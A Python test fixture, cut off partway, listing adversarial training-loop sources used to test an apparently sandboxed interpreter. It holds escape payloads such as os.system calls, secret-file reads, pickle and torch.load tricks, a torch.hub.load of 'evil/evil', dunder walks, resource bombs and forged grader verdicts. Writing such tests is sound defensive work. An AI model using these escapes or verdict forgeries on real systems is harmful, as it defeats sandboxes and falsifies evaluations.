"""Sources that try to get out of the interpreter, or to keep it busy for ever. None of them is ever executed.

``{WRITTEN}`` and ``{SECRET}`` stand for files that must not be written and not be read.
"""

# ruff: noqa: E501
from __future__ import annotations

HEAD = "import torch, os, sys, math\nimport torch.nn as nn\nimport torch.nn.functional as F\n"
W, SECRET = "{WRITTEN}", "{SECRET}"


def step(
    pre: str = "", expr: str = "F.mse_loss(out, y, reduction='sum')", inner: str = "", glob: str = "", post: str = ""
) -> str:
    """Return a training loop with something in it: before the loop, in it, at the top, or behind the loss."""
    return (
        f"{HEAD}{glob}\ndef train(model, loader, opt):\n{pre}    for x, y in loader:\n        out = model(x)\n{inner}"
        f"        loss = {expr}\n{post}        loss.backward()\n        opt.step()\n"
    )


#: Calls, aliases, bombs and forgeries.
FIRST = [
    ("os.system in loss expr", step(expr=f"F.mse_loss(out, y, reduction='sum') * (os.system('touch {W}') + 1)")),
    ("__import__", step(expr=f"F.mse_loss(out, y) * __import__('os').system('touch {W}')")),
    ("eval", step(expr=f"F.mse_loss(out, y) * eval(\"__import__('os').system('touch {W}')\")")),
    (
        "exec in helper",
        step(
            glob=f"def my_loss(a, b):\n    exec(\"open('{W}','w')\")\n    return F.mse_loss(a, b, reduction='sum')\n",
            expr="my_loss(out, y)",
        ),
    ),
    ("open() as reduction arg", step(expr=f"F.mse_loss(out, y, reduction=open('{SECRET}').read())")),
    (
        "dunder subclasses walk",
        step(expr="F.mse_loss(out, y, reduction='sum') * len(().__class__.__bases__[0].__subclasses__())"),
    ),
    ("getattr builtin", step(expr=f"F.mse_loss(out, y) * getattr(os, 'sys' + 'tem')('touch {W}')")),
    ("str.format field walk", step(expr="F.mse_loss(out, y) * len('{0.__class__.__mro__}'.format(out))")),
    ("f-string side effect", step(expr=f"F.mse_loss(out, y) * len(f\"{{os.system('touch {W}')}}\")")),
    ("torch.load pickle", step(expr=f"F.mse_loss(out, torch.load('{SECRET}', weights_only=False))")),
    ("torch.hub", step(expr="F.mse_loss(out, torch.hub.load('evil/evil', 'x'))")),
    ("torch.ops.load_library", step(inner="        torch.ops.load_library('evil.so')\n")),
    (
        "torch.utils.cpp_extension",
        step(expr="F.mse_loss(out, torch.utils.cpp_extension.load_inline('x', 'int main(){}'))"),
    ),
    ("torch.save", step(expr="F.mse_loss(out, y)", post=f"        loss = loss * torch.save(out, '{W}')\n")),
    ("torch.from_file", step(expr=f"F.mse_loss(out, torch.from_file('{SECRET}', size=2))")),
    ("torch.os alias", step(glob="import torch.os as o\n", expr=f"F.mse_loss(out, y) * torch.os.system('touch {W}')")),
    ("torch.nn.os via alias", step(expr=f"F.mse_loss(out, y) * torch._utils.sys.modules['os'].system('touch {W}')")),
    (
        "from torch.serialization import os",
        step(
            glob="from torch.serialization import os as loss_os\n",
            expr=f"F.mse_loss(out, y) * loss_os.system('touch {W}')",
        ),
    ),
    (
        "import alias of builtins",
        step(glob="from torch.fx._symbolic_trace import builtins as b\n", expr="F.mse_loss(out, y) * b.eval('1')"),
    ),
    ("Tensor.apply_ callback", step(expr=f"F.mse_loss(out.detach().apply_(lambda v: os.system('touch {W}')), y)")),
    ("Tensor.map_", step(expr="F.mse_loss(out.map_(y, lambda a, b: os.getpid()), y)")),
    ("register_hook callback", step(post=f"        loss.register_hook(lambda g: os.system('touch {W}'))\n")),
    ("Tensor.numpy -> ctypes", step(expr="F.mse_loss(out, y) * out.detach().numpy().ctypes.data")),
    ("Tensor.data_ptr leak", step(expr="F.mse_loss(out, y, reduction='sum') * out.data_ptr()")),
    ("Tensor.storage", step(expr="F.mse_loss(out, y) * out.untyped_storage()._write_file(1)")),
    ("as_strided out of bounds", step(expr="F.mse_loss(out.as_strided((9999, 9999), (9999, 1)), y)")),
    (
        "decorator runs code",
        step(
            glob=f"@os.system('touch {W}')\ndef my_loss(a, b):\n    return F.mse_loss(a, b, reduction='sum')\n",
            expr="my_loss(out, y)",
        ),
    ),
    (
        "default arg runs code",
        step(
            glob=f"def my_loss(a, b, c=os.system('touch {W}')):\n    return F.mse_loss(a, b, reduction='sum') + c\n",
            expr="my_loss(out, y)",
        ),
    ),
    (
        "class body + metaclass",
        step(
            glob=f"class M(type):\n    def __new__(m, *a): os.system('touch {W}'); return type.__new__(m, *a)\nclass MyLoss(nn.Module, metaclass=M):\n    x = os.system('touch {W}')\n    def forward(self, a, b):\n        return F.mse_loss(a, b, reduction='sum')\ncrit = MyLoss()\n",
            expr="crit(out, y)",
        ),
    ),
    (
        "__getattr__ / __mul__ overloads",
        step(
            glob=f"class MyLoss(nn.Module):\n    def __mul__(self, o): os.system('touch {W}')\n    def __getattr__(self, n): os.system('touch {W}')\n    def forward(self, a, b):\n        return F.mse_loss(a, b, reduction='sum') * self.q\ncrit = MyLoss()\n",
            expr="crit(out, y)",
        ),
    ),
    ("memory bomb zeros", step(expr="F.mse_loss(out, y, reduction='sum') + torch.zeros(10**6, 10**6).sum()")),
    ("memory bomb repeat", step(expr="F.mse_loss(out.repeat(10**5, 10**5), y)")),
    (
        "memory bomb expand",
        step(
            expr="(out.reshape(-1)[:, None, None, None, None, None, None, None] * out.reshape(-1)[None, :, None, None, None, None, None, None] * out.reshape(-1)[None, None, :, None, None, None, None, None] * out.reshape(-1)[None, None, None, :, None, None, None, None] * out.reshape(-1)[None, None, None, None, :, None, None, None]).sum()"
        ),
    ),
    (
        "memory bomb list *",
        step(inner="        z = [0] * (10 ** 12)\n", expr="F.mse_loss(out, y, reduction='sum') * len(z)"),
    ),
    (
        "memory bomb str *",
        step(inner="        z = 'a' * (10 ** 12)\n", expr="F.mse_loss(out, y, reduction='sum') * len(z)"),
    ),
    ("int power bomb", step(expr="F.mse_loss(out, y, reduction='sum') / (9 ** 9 ** 9)")),
    (
        "int squaring loop",
        step(
            inner="        n = 3\n        for i in range(60):\n            n = n * n\n",
            expr="F.mse_loss(out, y, reduction='sum') / n",
        ),
    ),
    ("shift bomb", step(expr="F.mse_loss(out, y, reduction='sum') / (1 << 10 ** 12)")),
    (
        "doubling cat loop",
        step(
            inner="        z = out\n        for i in range(60):\n            z = torch.cat([z, z])\n",
            expr="F.mse_loss(z, z.detach(), reduction='sum')",
        ),
    ),
    (
        "kron/outer growth",
        step(
            inner="        z = out.reshape(-1)\n        for i in range(8):\n            z = torch.outer(z, z).reshape(-1)\n",
            expr="z.sum()",
        ),
    ),
    ("one_hot bomb", step(expr="F.mse_loss(F.one_hot(torch.tensor([0]), 10**12).float(), y)")),
    ("endless while", step(inner="        while True:\n            out = out + 1\n")),
    ("range bomb", step(inner="        for i in range(10 ** 18):\n            out = out + 1\n")),
    (
        "nested loops",
        step(
            inner="        for a in range(64):\n            for b in range(64):\n                for c in range(64):\n                    for d in range(64):\n                        out = out + 1\n"
        ),
    ),
    (
        "recursion",
        step(
            glob="def my_loss(a, b):\n    return my_loss(a, b) + F.mse_loss(a, b, reduction='sum')\n",
            expr="my_loss(out, y)",
        ),
    ),
    (
        "exponential recursion",
        step(
            glob="def my_loss(a, b, n=11):\n    if n == 0:\n        return F.mse_loss(a, b, reduction='sum')\n    return my_loss(a, b, n - 1) + my_loss(a, b, n - 1) + my_loss(a, b, n - 1) + my_loss(a, b, n - 1)\n",
            expr="my_loss(out, y)",
        ),
    ),
    ("deep nesting parse bomb", HEAD + "x = " + "(" * 3000 + "1" + ")" * 3000 + "\n" + step()[len(HEAD) :]),
    ("deep unary chain", step(expr="F.mse_loss(out, y) * (" + "-" * 5000 + "1)")),
    ("long attribute chain", step(expr="F.mse_loss(out, y) * model" + ".a" * 3000)),
    ("huge int literal", step(expr="F.mse_loss(out, y) * " + "9" * 4000)),
    (
        "CUDA device-side assert try: bad index",
        step(expr="F.cross_entropy(out, torch.tensor([99, 99, 99, 99]), reduction='sum')"),
    ),
    ("einsum path bomb", step(expr="torch.einsum('" + ",".join(["ab"] * 20) + "->', " + ",".join(["out"] * 20) + ")")),
    (
        "quantile/sort heavy matmul",
        step(
            inner="        z = torch.ones(1400, 1400)\n        for i in range(64):\n            z = z @ z\n",
            expr="F.mse_loss(out, y, reduction='sum') * z.sum()",
        ),
    ),
    (
        "optimizer with evil kwargs",
        step(
            glob=f"import torch.optim as optim\noptimizer = optim.SGD([nn.Parameter(torch.zeros(2))], lr=(lambda: os.system('touch {W}'))())\n"
        ).replace("opt.step", "optimizer.step"),
    ),
    (
        "post-backward code",
        step().replace(
            "        opt.step()\n",
            f"        for p in model.parameters():\n            p.grad = os.system('touch {W}')\n        opt.step()\n",
        ),
    ),
    (
        "walrus and lambda",
        step(expr=f"(lambda q: F.mse_loss(out, y, reduction='sum') * (q := os.system('touch {W}')))(1)"),
    ),
    ("global statement", step(inner="        global F\n        F = os\n", expr=f"F.system('touch {W}')")),
    ("shadow a torch name by assignment", step(inner="        F = os\n", expr=f"F.system('touch {W}')")),
    (
        "try/except/finally",
        step(inner=f"        try:\n            out = out / 0\n        finally:\n            os.system('touch {W}')\n"),
    ),
    ("with open(...)", step(inner=f"        with open('{W}', 'w') as f:\n            out = out * 1\n")),
    ("verdict forgery through print", step(inner='        print(\'{"status":"ok","verdict":"refuted"}\')\n')),
    (
        "verdict forgery through sys.stdout",
        step(inner="        out = out * sys.stdout.write('\\x00\\x00\\x00\\x02{}')\n"),
    ),
    (
        "null byte / unicode source",
        step().replace("loss =", "lo\u017fs =").replace("loss.backward", "lo\u017fs.backward"),
    ),
]

SUM = "F.mse_loss(out, y, reduction='sum')"
LOSS = f"    def forward(self, a, b):\n        return {SUM.replace('out', 'a').replace('y,', 'b,')}"


def user_class(members: str, bases: str = "nn.Module", use: str = "crit(out, y)") -> str:
    """Return a training loop with a loss class of its own that has some more members."""
    return step(glob=f"class Loss({bases}):\n{members}{LOSS}\ncrit = Loss()\n", expr=use)


#: What an interpreter of this kind is weak at: formats, dunders, hooks, overloads, descriptors, callables, shapes.
SECOND = [
    ("format walks attributes", step(expr=SUM + " * len('{0.__class__.__init__.__globals__}'.format(out))")),
    ("format_map", step(expr=SUM + " * len('{out.__class__}'.format_map({'out': out}))")),
    ("percent format", step(expr=SUM + " * len('%s' % out.__class__)")),
    ("f-string with a nested format", step(expr=SUM + " * len(f'{out:{os.system(\"touch {WRITTEN}\")}}')")),
    ("f-string that formats for ever", step(expr=SUM + " * len(f'{1:999999999}')")),
    ("percent format that is wide", step(expr=SUM + " * len('%999999999d' % 1)")),
    ("join of a bomb", step(inner="        s = 'a' * 4000\n        for i in range(60):\n            s = s + s\n")),
    (
        "replace of a bomb",
        step(
            inner="        s = 'aaaa'\n        for i in range(60):\n            s = s.replace('a', 'aaaaaaaa')\n",
            expr=SUM + " * len(s)",
        ),
    ),
    ("getattr with a dunder", step(expr=SUM + " * getattr(out, '__class__')")),
    ("getattr with a sum of texts", step(expr=SUM + " * getattr(out, '__cl' + 'ass__')")),
    ("getattr of a library", step(expr=SUM + " * getattr(torch, 'load')('{SECRET}')")),
    ("getattr twice", step(expr=SUM + " * getattr(getattr(torch, 'os'), 'system')('touch {WRITTEN}')")),
    ("setattr and delattr", step(inner="        setattr(torch, 'sum', os.system)\n        delattr(torch, 'mean')\n")),
    (
        "assignment to a library",
        step(
            inner="        torch.sum = os.system\n        F.mse_loss = os.system\n",
            expr="F.mse_loss('touch {WRITTEN}')",
        ),
    ),
    ("assignment to a tensor's class", step(inner="        out.backward = os.system\n        out.grad_fn = os\n")),
    ("vars and dir", step(expr=SUM + " * len(vars(torch)) * len(dir(torch))")),
    ("globals and locals", step(expr=SUM + " * globals()['os'].system('touch {WRITTEN}')")),
    ("type with three arguments", step(expr="type('X', (nn.Module,), {'forward': os.system})('touch {WRITTEN}')")),
    ("type of a tensor", step(expr="type(out).apply_(out, os.system)")),
    ("object and its subclasses", step(expr=SUM + " * object.__subclasses__()[0]")),
    ("code of a function", step(glob="def f():\n    pass\n", expr=SUM + " * f.__code__.co_consts")),
    (
        "globals of a function",
        step(glob="def f():\n    pass\n", expr=SUM + " * f.__globals__['os'].system('touch {WRITTEN}')"),
    ),
    ("frame of a generator", step(expr=SUM + " * (i for i in [1]).gi_frame.f_back.f_globals['os'].system('x')")),
    (
        "traceback of an exception",
        step(
            inner="        try:\n            raise ValueError\n        except ValueError as e:\n            e.with_traceback(None).tb_frame.f_globals['os'].system('touch {WRITTEN}')\n"
        ),
    ),
    (
        "an exception with an effect",
        step(
            glob="class E(Exception):\n    def __init__(self):\n        os.system('touch {WRITTEN}')\n",
            inner="        try:\n            raise E()\n        except E:\n            pass\n",
        ),
    ),
    (
        "except star and a handler that calls",
        step(
            inner="        try:\n            out = out / 0\n            raise KeyError\n        except os.system('touch {WRITTEN}'):\n            pass\n"
        ),
    ),
    (
        "__getattr__",
        user_class(
            "    def __getattr__(self, n):\n        return os.system('touch {WRITTEN}')\n",
            use="crit(out, y) * crit.other",
        ),
    ),
    (
        "__getattribute__",
        user_class("    def __getattribute__(self, n):\n        return os.system\n", use="crit.any('touch {WRITTEN}')"),
    ),
    (
        "__setattr__",
        user_class(
            "    def __init__(self):\n        self.x = 1\n    def __setattr__(self, n, v):\n        os.system('touch {WRITTEN}')\n"
        ),
    ),
    (
        "a property",
        user_class(
            "    @property\n    def scale(self):\n        return os.system('touch {WRITTEN}')\n",
            use="crit(out, y) * crit.scale",
        ),
    ),
    (
        "a descriptor",
        step(
            glob="class D:\n    def __get__(self, o, t):\n        return os.system('touch {WRITTEN}')\nclass L:\n    d = D()\nl = L()\n",
            expr=SUM + " * l.d",
        ),
    ),
    (
        "__set_name__ and __init_subclass__",
        step(
            glob="class B:\n    def __init_subclass__(cls):\n        os.system('touch {WRITTEN}')\nclass L(B):\n    def forward(self, a, b):\n        return F.mse_loss(a, b, reduction='sum')\nc = L()\n",
            expr="c(out, y)",
        ),
    ),
    (
        "__class_getitem__",
        step(
            glob="class L:\n    def __class_getitem__(cls, i):\n        os.system('touch {WRITTEN}')\n",
            expr=SUM + " * L[0]",
        ),
    ),
    (
        "__torch_function__",
        step(
            glob="class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n        os.system('touch {WRITTEN}')\n",
            expr="F.mse_loss(T(out), y)",
        ),
    ),
    ("as_subclass", step(glob="class T(torch.Tensor):\n    pass\n", expr="F.mse_loss(out.as_subclass(T), y)")),
    (
        "operators of a user class",
        step(
            glob="class N:\n    def __add__(self, o):\n        os.system('touch {WRITTEN}')\n    def __len__(self):\n        return 10 ** 12\n    def __iter__(self):\n        return self\n    def __bool__(self):\n        os.system('touch {WRITTEN}')\nn = N()\n",
            inner="        if n:\n            pass\n",
            expr=SUM + " + n",
        ),
    ),
    (
        "__eq__ and __hash__",
        step(
            glob="class N:\n    def __hash__(self):\n        return os.system('touch {WRITTEN}')\n    def __eq__(self, o):\n        return True\nn = N()\n",
            expr=SUM + " * {n: 1}[n]",
        ),
    ),
    (
        "__enter__ and __exit__",
        step(
            glob="class C:\n    def __enter__(self):\n        os.system('touch {WRITTEN}')\n    def __exit__(self, *a):\n        os.system('touch {WRITTEN}')\n",
            inner="        with C() as c:\n            out = out * 1\n",
        ),
    ),
    (
        "__index__",
        step(
            glob="class I:\n    def __index__(self):\n        os.system('touch {WRITTEN}')\n        return 0\n",
            expr="F.mse_loss(out[I()], y[I()])",
        ),
    ),
    (
        "__reduce__ and deepcopy",
        step(
            glob="import copy\nclass R:\n    def __reduce__(self):\n        return os.system, ('touch {WRITTEN}',)\n    def __deepcopy__(self, m):\n        os.system('touch {WRITTEN}')\n",
            expr=SUM + " * len([copy.deepcopy(R())])",
        ),
    ),
    ("pickle", step(glob="import pickle\n", expr=SUM + " * pickle.loads('cos\\nsystem\\n')")),
    (
        "class attributes that shadow torch",
        step(
            glob="class torch:\n    sum = os.system\n    class nn:\n        MSELoss = os.system\n",
            expr="torch.nn.MSELoss('touch {WRITTEN}') + torch.sum('touch {WRITTEN}')",
        ),
    ),
    (
        "a function called like a library",
        step(glob="def F(x):\n    return os.system(x)\n", expr="F('touch {WRITTEN}')"),
    ),
    (
        "a metaclass call",
        step(
            glob="class M(type):\n    def __call__(cls, *a):\n        os.system('touch {WRITTEN}')\nclass L(metaclass=M):\n    pass\n",
            expr=SUM + " * L()",
        ),
    ),
    (
        "a base class that is called",
        step(
            glob="class L(os.system('touch {WRITTEN}')):\n    def forward(self, a, b):\n        return F.mse_loss(a, b)\nc = L()\n",
            expr="c(out, y)",
        ),
    ),
    (
        "a class that derives from itself",
        step(
            glob="class A(B):\n    pass\nclass B(A):\n    def forward(self, a, b):\n        return F.mse_loss(a, b)\nc = A()\n",
            expr="c(out, y)",
        ),
    ),
    (
        "super of nothing",
        user_class("    def __init__(self):\n        super(os, os.system).__init__('touch {WRITTEN}')\n"),
    ),
    ("super with a dunder", user_class("    def __init__(self):\n        super().__reduce__()\n")),
    ("a lambda default", step(expr="(lambda a, b=os.system('touch {WRITTEN}'): F.mse_loss(a, y) * b)(out)")),
    ("a lambda that calls itself", step(inner="        f = lambda g: g(g)\n", expr="f(f)")),
    ("the Y combinator with lists", step(inner="        a = []\n        a.append(a)\n", expr=SUM + " * (a == a)")),
    (
        "lists that hold each other",
        step(
            inner="        a = []\n        for i in range(60):\n            a = [a, a]\n",
            expr=SUM + " * (a == [a, a]) * torch.tensor(a)",
        ),
    ),
    ("a dictionary of itself", step(inner="        d = {}\n        d['d'] = d\n", expr="torch.stack(d)")),
    (
        "an extended list of itself",
        step(inner="        a = [1]\n        for i in range(60):\n            a.extend(a)\n", expr=SUM + " * len(a)"),
    ),
    (
        "an added list of itself",
        step(inner="        a = [1]\n        for i in range(60):\n            a += a\n", expr=SUM + " * len(a)"),
    ),
    (
        "star arguments of a bomb",
        step(
            inner="        a = list(range(60))\n        for i in range(9):\n            a = [*a, *a, *a]\n",
            expr="torch.stack([*a, *a])",
        ),
    ),
    ("star arguments from a call", step(expr="F.mse_loss(*os.listdir('/'), **os.environ)")),
    ("keywords with dunders", step(expr="F.mse_loss(out, y, **{'__class__': 1, 'reduction': 'sum'})")),
    ("keywords that are no names", step(expr="F.mse_loss(out, y, **{'a b': 1})")),
    (
        "comprehension of comprehensions",
        step(
            expr=SUM
            + " * sum([a * b * c * d for a in range(60) for b in range(60) for c in range(60) for d in range(60)])"
        ),
    ),
    ("a comprehension that shadows", step(expr=SUM + " * sum([F.system('touch {WRITTEN}') for F in [os]])")),
    ("a generator that binds by walrus", step(expr=SUM + " * sum((F := os) for i in [1])")),
    (
        "a walrus in a default",
        step(glob="def f(a, b=(F := os)):\n    return F.system('touch {WRITTEN}')\n", expr="f(out)"),
    ),
    (
        "global and nonlocal",
        step(
            glob="def f():\n    global F, torch\n    F = os\n    torch = os\n    def g():\n        nonlocal h\n        h = os\n    h = 1\n    g()\n    return h.system('touch {WRITTEN}')\n",
            expr=SUM + " * f()",
        ),
    ),
    (
        "match with a class pattern",
        step(inner="        match out:\n            case os.system(x=1):\n                out = out * 2\n"),
    ),
    (
        "match with a guard that calls",
        step(
            inner="        match out:\n            case z if os.system('touch {WRITTEN}'):\n                out = out * 2\n"
        ),
    ),
    (
        "match with a mapping pattern",
        step(inner="        match {'a': 1}:\n            case {'a': z, **rest}:\n                out = out * z\n"),
    ),
    ("del of a name", step(inner="        del os, F, torch\n")),
    ("an assert with an effect", step(inner="        assert os.system('touch {WRITTEN}') == 0\n")),
    ("an annotation with an effect", step(inner="        z: os.system('touch {WRITTEN}') = 1\n")),
    (
        "an import in a function",
        step(inner="        import subprocess as s\n", expr=SUM + " * s.call(['touch', '{WRITTEN}'])"),
    ),
    (
        "an import of everything",
        step(glob="from os import *\nfrom subprocess import *\n", expr=SUM + " * system('touch {WRITTEN}')"),
    ),
    ("an import with dots", step(glob="from ....os import system\n", expr=SUM + " * system('touch {WRITTEN}')")),
    (
        "a conditional import at the top",
        step(
            glob="try:\n    from os import system as loss_fn\nexcept ImportError:\n    loss_fn = None\n",
            expr="loss_fn('touch {WRITTEN}')",
        ),
    ),
    (
        "a decorator that is a lambda",
        step(
            glob="@(lambda f: os.system('touch {WRITTEN}'))\ndef my(a, b):\n    return F.mse_loss(a, b)\n",
            expr="my(out, y)",
        ),
    ),
    ("slices with huge steps", step(expr="F.mse_loss(out[::10 ** 70], y[::10 ** 70], reduction='sum')")),
    ("a huge index", step(expr="F.mse_loss(out[10 ** 60], y[0], reduction='sum')")),
    ("a slice of tensors", step(expr="F.mse_loss(out[out:out], y, reduction='sum')")),
    (
        "a list of indices that is long",
        step(inner="        i = [0] * 4000\n", expr="F.mse_loss(out[i][i][:, i], y[i][i][:, i], reduction='sum')"),
    ),
    ("view to a negative bomb", step(expr="F.mse_loss(out.view(-1, -1, 10 ** 18), y, reduction='sum')")),
    ("expand and add", step(expr="(out.sum().expand(10 ** 6, 10 ** 6) + 1).sum()")),
    (
        "broadcast in small steps",
        step(
            inner="        a = out.reshape(-1)\n        for i in range(20):\n            a = a.unsqueeze(-1) * a.reshape(-1)[:2]\n",
            expr="a.sum()",
        ),
    ),
    ("one_hot of a large number", step(expr="F.one_hot(torch.tensor([10 ** 11])).sum() * " + SUM)),
    ("bincount of a large number", step(expr="torch.bincount(torch.tensor([10 ** 11])).sum() * " + SUM)),
    ("repeat_interleave by a tensor", step(expr="out.repeat_interleave(torch.tensor([10 ** 11]), 0).sum()")),
    ("meshgrid", step(inner="        a = torch.arange(60000)\n", expr="torch.meshgrid(a, a)[0].sum() * " + SUM)),
    ("a triangle of a vector", step(expr="torch.diag(torch.arange(900000)).sum() * " + SUM)),
    (
        "a distance of many points",
        step(inner="        a = torch.rand(900000, 1)\n", expr="torch.cdist(a, a).sum() * " + SUM),
    ),
    (
        "matrix products in a loop",
        step(
            inner="        z = torch.ones(900, 900)\n        for i in range(60):\n            z = z @ z\n",
            expr=SUM + " * z.sum()",
        ),
    ),
    (
        "einsum with many letters",
        step(expr="torch.einsum('ab,cd,ef,gh,ij->abcdefghij', out, out, out, out, out).sum()"),
    ),
    ("einsum with an ellipsis", step(expr="torch.einsum('...a,...b->...ab', out, out).sum()")),
    ("einsum with a list", step(expr="torch.einsum('ab,cd,ef->abcdef', [out, out, out]).sum()")),
    (
        "many that are padded to a long one",
        step(expr="torch.nn.utils.rnn.pad_sequence([torch.rand(900000), *torch.rand(3000).split(1)]).sum() * " + SUM),
    ),
    ("split into many", step(expr="torch.stack(torch.rand(900000).split(1)).sum() * " + SUM)),
    ("a tensor method that takes a callable", step(expr="F.mse_loss(out.map2_(y, y, os.system), y)")),
    (
        "hooks of all kinds",
        step(
            post="        loss.register_post_accumulate_grad_hook(os.system)\n        loss.grad_fn.register_hook(os.system)\n"
        ),
    ),
    (
        "a saved tensor hook",
        step(
            inner="        with torch.autograd.graph.saved_tensors_hooks(os.system, os.system):\n            out = out * 2\n"
        ),
    ),
    (
        "an autograd function",
        step(
            glob="class Fn(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx, a):\n        os.system('touch {WRITTEN}')\n        return a\n    @staticmethod\n    def backward(ctx, g):\n        os.system('touch {WRITTEN}')\n        return g\n",
            expr="F.mse_loss(Fn.apply(out), y, reduction='sum')",
        ),
    ),
    ("vmap and functional calls", step(expr="torch.vmap(os.system)(out) + torch.func.grad(os.system)(out)")),
    (
        "torch.library",
        step(
            inner="        torch.library.define('a::b', '(Tensor x) -> Tensor')\n        torch.ops.load_library('{SECRET}')\n"
        ),
    ),
    (
        "torch.jit and torch.compile",
        step(
            glob="f = torch.jit.script(os.system)\ng = torch.compile(os.system)\n",
            expr=SUM + " * f('touch {WRITTEN}') * g('touch {WRITTEN}')",
        ),
    ),
    (
        "torch.jit.load and torch.package",
        step(expr=SUM + " * torch.jit.load('{SECRET}') * torch.package.PackageImporter('{SECRET}')"),
    ),
    (
        "a numpy bridge",
        step(glob="import numpy as np\n", expr="torch.from_numpy(np.load('{SECRET}', allow_pickle=True)).sum()"),
    ),
    (
        "a numpy array of a tensor",
        step(glob="import numpy as np\n", expr=SUM + " * np.array(out).ctypes.data * out.numpy().tofile('{WRITTEN}')"),
    ),
    ("dlpack and the buffer", step(expr=SUM + " * torch.frombuffer(out.__dlpack__(), dtype=torch.uint8)")),
    ("set_ and storage", step(expr="F.mse_loss(out.set_(y.untyped_storage(), 10 ** 9, (4,)), y)")),
    ("resize_", step(expr="F.mse_loss(out.resize_(10 ** 9), y)")),
    (
        "the default dtype and threads",
        step(
            inner="        torch.set_default_dtype(torch.float16)\n        torch.set_num_threads(64)\n        torch.manual_seed(0)\n        torch.use_deterministic_algorithms(True)\n"
        ),
    ),
    ("a device by name", step(inner="        out = out.to('cuda:99')\n        z = torch.zeros(2, device='evil')\n")),
    ("a dtype by attribute", step(expr="F.mse_loss(out.to(torch.os), y.type('os.system'), reduction='sum')")),
    (
        "a distribution with a transform",
        step(expr="torch.distributions.TransformedDistribution(os, [os.system]).log_prob(out).sum()"),
    ),
    (
        "a distribution that validates",
        step(expr="torch.distributions.Normal(out, 1, validate_args=os.system).log_prob(y).sum()"),
    ),
    (
        "an optimizer with a closure",
        step().replace(
            "opt.step()", "torch.optim.SGD(model.parameters(), lr=0.1).step(lambda: os.system('touch {WRITTEN}'))"
        ),
    ),
    (
        "an optimizer that loads",
        step(
            pre="    opt = torch.optim.SGD(model.parameters(), lr=0.1)\n    opt.load_state_dict(torch.load('{SECRET}'))\n"
        ),
    ),
    (
        "isinstance with a class of its own",
        step(
            glob="class M(type):\n    def __instancecheck__(c, o):\n        os.system('touch {WRITTEN}')\nclass C(metaclass=M):\n    pass\n",
            expr=SUM + " * isinstance(out, C)",
        ),
    ),
    ("sorted with a key", step(expr=SUM + " * len(sorted([1, 2], key=os.system))")),
    (
        "map and filter of system",
        step(
            expr=SUM
            + " * len(list(map(os.system, ['touch {WRITTEN}']))) * len(list(filter(os.system, ['touch {WRITTEN}'])))"
        ),
    ),
    ("min with a key", step(expr=SUM + " * min(['touch {WRITTEN}'], key=os.system)")),
    (
        "partial of system",
        step(glob="import functools\np = functools.partial(os.system, 'touch {WRITTEN}')\n", expr=SUM + " * p()"),
    ),
    (
        "reduce of system",
        step(glob="from functools import reduce\n", expr=SUM + " * reduce(os.system, ['touch {WRITTEN}', 1])"),
    ),
    (
        "a partial of partials",
        step(
            glob="from functools import partial\nf = partial\nfor i in range(50):\n    f = partial(f, f)\n",
            expr="f(out, y)",
        ),
    ),
    (
        "a network with an effect",
        step(
            glob="class Net(nn.Module):\n    def forward(self, x):\n        os.system('touch {WRITTEN}')\n        return x\nmodel = Net()\n"
        ).replace("train(model, loader", "train(loader"),
    ),
    (
        "a recursion through a property",
        user_class("    @property\n    def a(self):\n        return self.a\n", use="crit(out, y) * crit.a"),
    ),
    (
        "a recursion of two functions",
        step(glob="def f(a):\n    return g(a)\ndef g(a):\n    return f(a)\n", expr="f(out)"),
    ),
    ("a recursion of a module name", step(glob="a = b\nb = a\n", expr=SUM + " * a")),
    ("a recursion in a class body", step(glob="class C:\n    a = C.a\n", expr=SUM + " * C.a")),
    ("a recursion through a default", step(glob="def f(a=f()):\n    return a\n", expr="f()")),
    ("a loop that never ends with a break", step(inner="        n = 0\n        while n < 1:\n            n = n * 1\n")),
    ("a loop over a growing list", step(inner="        a = [1]\n        for i in a:\n            a.append(i)\n")),
    ("a power of floats", step(expr=SUM + " * (1e308 ** 1e308)")),
    (
        "a factorial by hand",
        step(
            inner="        n = 1\n        for i in range(1, 64):\n            n = n * i * i * i * i * i\n",
            expr=SUM + " / n",
        ),
    ),
    (
        "a shift by hand",
        step(
            inner="        n = 1\n        for i in range(60):\n            n = n + n\n        for i in range(60):\n            n = n * n\n",
            expr=SUM + " / n",
        ),
    ),
    ("an integer of a long text", step(expr=SUM + " * int('9' * 4000)")),
    ("an integer of infinity", step(expr=SUM + " * int(float('inf'))")),
    ("a range of floats and of nan", step(inner="        for i in range(int(1e300)):\n            out = out + 1\n")),
    ("a round to many digits", step(expr=SUM + " * round(1.5, 10 ** 60)")),
    ("a chain of comparisons", step(expr=SUM + " * (" + " < ".join(["1"] * 2000) + ")")),
    ("a chain of boolean operations", step(expr=SUM + " * (" + " and ".join(["1"] * 3000) + ")")),
    ("a long sum", step(expr=SUM + " * (" + " + ".join(["1"] * 900) + ")")),
    ("many adjacent texts", step(expr=SUM + " * len(" + "'a' " * 3000 + ")")),
    ("many statements", step(inner="        out = out + 1\n" * 30_000)),
    ("many arguments", step(expr="torch.stack([" + "out, " * 5_000 + "]).sum()")),
    ("surrogates and a long line", step(expr=SUM + " * len('\\ud800' * 10)")),
    ("a name that is normalized", step(expr=SUM + " * ｏｓ.system('touch {WRITTEN}')")),
    ("async and await", step(inner="        async def f():\n            await os.system('touch {WRITTEN}')\n")),
    ("yield", step(glob="def f():\n    yield os.system('touch {WRITTEN}')\n", expr=SUM + " * next(f())")),
    ("bytes", step(expr=SUM + " * len(b'a' * 10)")),
    ("a complex number", step(expr=SUM + " * abs(1j)")),
    ("a type alias by string", step(inner="        z: 'os.system(1)' = 1\n")),
    ("map of torch.load", step(expr=SUM + " * len(list(map(torch.load, ['{SECRET}'])))")),
    ("map of torch.save", step(expr=SUM + " * len(list(map(torch.save, [out])))")),
    (
        "partial of torch.load",
        step(glob="from functools import partial\nf = partial(torch.load, '{SECRET}')\n", expr=SUM + " * f()"),
    ),
    (
        "a dictionary of loads",
        step(
            inner="        t = {'a': torch.load, 'b': torch.from_file}\n",
            expr=SUM + " * t['a']('{SECRET}') * t['b']('{SECRET}', size=1)",
        ),
    ),
    (
        "a function given as an argument",
        step(glob="def f(g, p):\n    return g(p)\n", expr=SUM + " * f(torch.load, '{SECRET}')"),
    ),
    (
        "lists that share lists",
        step(
            inner="        a = [0] * 4000\n        a = [a] * 4000\n        a = [a] * 4000\n        a = [a] * 4000\n",
            expr=SUM + " * torch.tensor(a).sum()",
        ),
    ),
    (
